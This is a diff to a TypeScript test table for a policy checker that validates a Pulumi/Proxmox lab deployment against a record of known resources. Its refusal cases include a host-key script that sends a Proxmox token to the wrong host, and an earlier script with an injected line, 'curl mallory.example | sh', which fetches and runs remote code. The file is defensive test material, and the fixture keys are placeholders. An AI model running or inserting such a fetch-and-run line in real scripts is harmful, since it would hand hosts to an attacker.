@@ -1,4 +1,5 @@
 /** The rule about resources that the program does not declare. */
+import { readFileSync } from "node:fs";
 import { commandWith } from "../bundle.ts";
 import { type Given, unknown } from "../run-rule.ts";
 import type { CaseTable } from "./case.ts";
@@ -26,10 +27,10 @@ const image = (props: Record<string, unknown>): Given => ({
 const connection = {
 	dialErrorLimit: 20,
 	host: "10.1.2.3",
-	hostKey: "ssh-ed25519 AAAA",
+	hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOi7eQhFymZCw2bl01oWMpf5i8fN3RxQRYzc0WqG+pE0",
 	perDialTimeout: 15,
 	port: 22,
-	privateKey: "key",
+	privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\na2V5\n-----END OPENSSH PRIVATE KEY-----\n",
 	user: "ops",
 };
 const command = (props: Record<string, unknown>): Given => ({
@@ -40,13 +41,94 @@ const command = (props: Record<string, unknown>): Given => ({
 const { hostKey: _, ...withoutHostKey } = connection;
 const known = "the record of known resources";
 
+const formerScript = readFileSync(
+	new URL("../../../fixtures/former-scripts/agent-host-key.sh", import.meta.url),
+	"utf8",
+);
+const hostKey = (script: string, ignoreChanges: string[]): Given => ({
+	type: "command:local:Command",
+	name: "worker-1-host-key",
+	props: {
+		addPreviousOutputInEnv: false,
+		create: "bash -s -- worker-1 10.1.2.4 600",
+		logging: "none",
+		stdin: `${script}pulumi@pve!lab=1\n`,
+	},
+	ignoreChanges,
+});
+const firewall = (added: Record<string, unknown>): Given => ({
+	type: "proxmoxve:firewall/optionsLegacy:OptionsLegacy",
+	name: "worker-1-firewall-options",
+	props: {
+		...{ enabled: true, inputPolicy: "DROP", outputPolicy: "ACCEPT", ipfilter: false, macfilter: true },
+		...{ nodeName: "pve1", vmId: 101, ...added },
+	},
+});
+const token = (contents: Record<string, unknown>): Given => ({
+	type: "kubernetes:core/v1:Secret",
+	name: "cloudflare-api-token",
+	props: {
+		apiVersion: "v1",
+		kind: "Secret",
+		metadata: { name: "cloudflare-api-token", namespace: "cert-manager" },
+		...contents,
+	},
+});
+const proxmox = provider({});
+const hostKeyFrom = (origin: string): Given => ({
+	type: "command:local:Command",
+	name: "worker-1-host-key",
+	props: {
+		create: `bash -s -- worker-1 10.1.2.4 600 '${origin}/api2/json/nodes/pve1/qemu/101/agent/file-read?file=%2Fetc%2Fssh%2Fssh_host_ed25519_key.pub'`,
+	},
+});
+
 export const programCases: CaseTable = {
+	"program-host-key-endpoint": {
+		accepts: {
+			"the endpoint of the provider": [proxmox, hostKeyFrom("https://10.1.2.3:8006")],
+			"a key from the machine itself": [
+				proxmox,
+				{
+					type: "command:local:Command",
+					name: "worker-1-host-key",
+					props: { create: "bash -s -- worker-1 10.1.2.4 600" },
+				},
+			],
+		},
+		refuses: {
+			"another host": [
+				[proxmox, hostKeyFrom("https://10.1.2.66:8006")],
+				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to https://10.1.2.66:8006; allowed is https://10.1.2.3:8006, the endpoint of the provider.",
+			],
+			"another port of it": [
+				[proxmox, hostKeyFrom("https://10.1.2.3:8007")],
+				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to https://10.1.2.3:8007; allowed is https://10.1.2.3:8006, the endpoint of the provider.",
+			],
+			"the endpoint in clear text": [
+				[proxmox, hostKeyFrom("http://10.1.2.3:8006")],
+				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to http://10.1.2.3:8006; allowed is https://10.1.2.3:8006, the endpoint of the provider.",
+			],
+			"a stack without a provider": [
+				hostKeyFrom("https://10.1.2.3:8006"),
+				"worker-1-host-key: worker-1-host-key sends the token of Proxmox to https://10.1.2.3:8006; allowed is no address, the endpoint of the provider.",
+			],
+		},
+	},
 	"program-known-resources": {
 		accepts: {
 			"a provider of another lab": provider({}),
 			"an image of another lab": image({}),
 			"a command on a node of another name": command({}),
 			"a connection that is unknown at preview": command({ connection: unknown }),
+			"a host key that an earlier version of the program has learnt": hostKey(formerScript, ["create", "stdin"]),
+			"inputs that the plugin of Proxmox adds": firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: true }),
+			"a provider of the engine": {
+				type: "pulumi:providers:command",
+				name: "default_1_2_1",
+				props: { version: "1.2.1" },
+			},
+			"a token as the plugin of Kubernetes writes it": token({ data: { "api-token": "YV9iLWM=" } }),
 			"a component of the program": { type: "rke2-lab:platform:Traefik", props: { any: "thing" } },
 		},
 		refuses: {
@@ -72,7 +154,35 @@ export const programCases: CaseTable = {
 			],
 			"a connection to any host": [
 				command({ connection: withoutHostKey }),
-				`worker-1-preflight has no connection > hostKey, which ${known} has; set <line>.`,
+				`worker-1-preflight has no connection > hostKey, which ${known} has; set <hostkey>.`,
+			],
+			"a host key that is none": [
+				command({ connection: { ...connection, hostKey: "ssh-ed25519 AAAA" } }),
+				`worker-1-preflight has another value in connection > hostKey than ${known}; allowed is <hostkey>.`,
+			],
+			"a provider in clear text": [
+				provider({ endpoint: "http://10.1.2.3:8006/" }),
+				`proxmox has another value in endpoint than ${known}; allowed is <https>.`,
+			],
+			"a script of an earlier version that would run now": [
+				hostKey(formerScript, []),
+				`worker-1-host-key has another value in stdin than ${known}; allowed is {"lines":{"$all":[""],"$each":["<secret>"]},"script":{"$any":["agent-host-key.sh","host-key.sh"]}}.`,
+			],
+			"a script of an earlier version with one more line": [
+				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
+				`worker-1-host-key has another value in stdin > lines > 0 than ${known}; allowed is  or <secret>.`,
+			],
+			"another value than the plugin adds": [
+				firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: false }),
+				`worker-1-firewall-options has another value in radv than ${known}; allowed is true.`,
+			],
+			"a provider that takes any kubeconfig": [
+				{ type: "pulumi:providers:kubernetes", name: "default_4_34_2", props: { version: "4.34.2" } },
+				`default_4_34_2 is a pulumi:providers:kubernetes that ${known} does not have; remove it.`,
+			],
+			"one more member in base64": [
+				token({ data: { "api-token": "YV9iLWM=", other: "YQ==" } }),
+				`cloudflare-api-token has other in stringData, which ${known} does not have; remove it.`,
 			],
 			"an output in the log": [
 				command({ logging: "stdoutAndStderr" }),
